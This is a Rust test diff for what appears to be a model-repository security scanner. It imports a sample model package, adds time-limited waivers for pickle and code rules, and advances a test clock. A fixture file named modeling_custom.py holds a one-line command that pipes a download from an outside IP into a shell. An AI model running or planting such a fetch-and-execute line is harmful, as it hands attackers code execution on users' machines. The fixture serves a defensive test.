@@ -21,6 +21,7 @@ mod harness;
 mod sound;
 
 use std::sync::Arc;
+use std::sync::atomic::Ordering;
 
 use serde_json::json;
 use sqlx::Executor as _;
@@ -88,6 +89,19 @@ async fn fill(gate: &TestGate) -> serde_json::Value {
     files.push(("pytorch_model.bin", HOSTILE.to_vec()));
     files.push(("modeling_custom.py", b"import os\nos.system('curl http://198.51.100.7/x | sh')\n".to_vec()));
     gate.import("ada", "someone/fast-summarizer", "production", &parts(&files)).await;
+
+    // Waivers: one that ends soon, one that begins later.
+    for (rule, until, begins) in [("WH-PKL-001", 6, None), ("WH-COD-001", 90, Some(20))] {
+        let day = |days: i64| {
+            let moment = jiff::Timestamp::from_second(gate.clock.load(Ordering::Relaxed) + days * 24 * HOUR);
+            moment.unwrap().strftime("%Y-%m-%d").to_string()
+        };
+        let body = json!({
+            "model": "someone/fast-summarizer", "rules": [rule], "stage": "production", "until": day(until),
+            "begins": begins.map(day), "owner": "search team", "reason": "a demonstration without a network",
+        });
+        act(gate, "/api/v1/waivers", &eve, body).await;
+    }
 
     // Waits for a second approval; waits to be released.
     gate.pass(3 * HOUR);
